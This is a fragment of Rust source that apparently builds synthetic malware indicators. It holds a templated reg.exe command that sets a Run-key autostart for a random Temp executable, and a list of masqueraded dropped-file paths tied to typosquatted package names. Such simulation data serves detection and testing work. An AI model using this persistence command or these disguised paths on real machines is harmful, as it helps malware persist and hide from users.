        r#"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v updater /t REG_SZ /d "C:\Users\{profile}\AppData\Local\Temp\{alnum8}.exe" /f"#,
    ),
];

const DROPPED_FILES: [&str; 8] = [
    r"C:\Users\{profile}\AppData\Local\Temp\pip-install-{alnum6}\colourama\bin\svchostw.exe",
    r"C:\Users\{profile}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\colour-sync.ps1",
    r"C:\Users\{profile}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\winlogon-helper.vbs",
    r"C:\ProgramData\{alnum8}\streamz-native.dll",
    r"C:\Windows\Temp\{alnum8}\wininit32.bat",
    r"C:\Windows\System32\msupdate{n2}.dll",
    r"C:\Windows\SysWOW64\npmhelper.exe",
    r"C:\Users\{profile}\AppData\Local\Temp\{alnum8}.scr",
];
